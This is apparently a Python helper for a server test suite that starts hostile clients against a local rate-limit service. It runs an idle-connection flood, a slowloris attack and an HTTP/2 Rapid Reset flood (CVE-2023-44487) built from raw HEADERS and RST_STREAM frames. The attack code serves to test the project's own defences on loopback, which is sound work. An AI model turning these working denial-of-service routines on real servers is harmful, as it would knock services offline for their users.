"""Hostile clients for the floods test (test_floods.py), each a process of its own so that they
do not share the measuring client's interpreter. Each runs until SIGTERM, prints "ready" once in
place, and at the end one JSON line of what it did.

    flood.py idle PORT COUNT FIRST_ADDRESS ADDRESSES
        COUNT connections that send nothing, spread over ADDRESSES loopback addresses from
        FIRST_ADDRESS up (127.0.0.2, 127.0.0.3, ...); one the server closes is opened again.
    flood.py slowloris PORT COUNT FIRST_ADDRESS ADDRESSES
        COUNT connections that send a request line, then one header byte a second, never
        finishing the header block; reopened when closed.
    flood.py rapid-reset PORT
        HTTP/2 on the gRPC listener: HEADERS for ShouldRateLimit then RST_STREAM(CANCEL) at
        once, over and over (CVE-2023-44487), reconnecting when the server hangs up.
"""

import ipaddress
import json
import selectors
import signal
import socket
import struct
import sys
import time

stop = False


def on_term(*_):
    global stop
    stop = True


signal.signal(signal.SIGTERM, on_term)


def addresses(first, count):
    base = ipaddress.IPv4Address(first)
    return [str(base + i) for i in range(count)]


def open_conn(port, source):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((source, 0))
    s.setblocking(False)
    try:
        s.connect(("127.0.0.1", port))
    except BlockingIOError:
        pass
    return s


def crowd(port, count, first, n_addresses, slow):
    """Keeps `count` connections open; `slow`: each sends a header byte a second."""
    sources = addresses(first, n_addresses)
    sel = selectors.DefaultSelector()
    conns = {}
    stats = {"opened": 0, "closed_by_server": 0, "bytes_sent": 0}

    def add(i):
        s = open_conn(port, sources[i % len(sources)])
        conns[s.fileno()] = (s, i)
        sel.register(s, selectors.EVENT_READ, i)
        stats["opened"] += 1
        if slow:
            try:
                s.send(b"POST /v1/ratelimit/check HTTP/1.1\r\nHost: sluice\r\nX-Slow: ")
            except OSError:
                pass

    for i in range(count):
        add(i)
    ready_at = time.monotonic() + 1.0
    announced = False
    next_drip = time.monotonic() + 1.0
    while not stop:
        for key, _ in sel.select(timeout=0.2):
            s, i = conns.pop(key.fd)
            sel.unregister(s)
            s.close()
            stats["closed_by_server"] += 1
            add(i)
        now = time.monotonic()
        if slow and now >= next_drip:
            next_drip = now + 1.0
            for s, _ in list(conns.values()):
                try:
                    stats["bytes_sent"] += s.send(b"a")
                except OSError:
                    pass
        if not announced and now >= ready_at:
            print("ready", flush=True)
            announced = True
    stats["open_at_end"] = len(conns)
    print(json.dumps(stats), flush=True)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def literal(name, value):
    """HPACK literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2)."""
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


HEADERS_BLOCK = (b"\x83\x86"  # :method POST, :scheme http (static table)
                 + literal(b":path", b"/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit")
                 + literal(b":authority", b"sluice")
                 + literal(b"content-type", b"application/grpc")
                 + literal(b"te", b"trailers"))
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
END_HEADERS, ACK = 0x4, 0x1
HEADERS, RST_STREAM, SETTINGS = 0x1, 0x3, 0x4
CANCEL = 0x8


def rapid_reset(port):
    stats = {"connections": 0, "pairs": 0}
    announced = False
    while not stop:
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2)
        except OSError:
            time.sleep(0.05)
            continue
        stats["connections"] += 1
        s.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
        s.setblocking(False)
        stream = 1
        try:
            while not stop and stream < 2**31 - 200:
                batch = bytearray()
                for _ in range(100):
                    batch += frame(HEADERS, END_HEADERS, stream, HEADERS_BLOCK)
                    batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                    stream += 2
                view = memoryview(bytes(batch))
                stuck_since = time.monotonic()
                while view and not stop:
                    try:
                        view = view[s.send(view):]
                        stuck_since = time.monotonic()
                    except BlockingIOError:
                        if time.monotonic() - stuck_since > 1.0:  # no longer read: go again
                            raise ConnectionResetError("not read")
                        time.sleep(0.001)
                stats["pairs"] += 100
                try:
                    while True:  # what the server says is read and dropped
                        if not s.recv(65536):
                            raise ConnectionResetError("closed")
                except BlockingIOError:
                    pass
                if not announced:
                    print("ready", flush=True)
                    announced = True
        except OSError:
            pass
        finally:
            s.close()
    print(json.dumps(stats), flush=True)


def main():
    mode, port = sys.argv[1], int(sys.argv[2])
    if mode in ("idle", "slowloris"):
        crowd(port, int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), slow=mode == "slowloris")
    elif mode == "rapid-reset":
        rapid_reset(port)
    else:
        sys.exit(f"unknown mode {mode}")


if __name__ == "__main__":
    main()
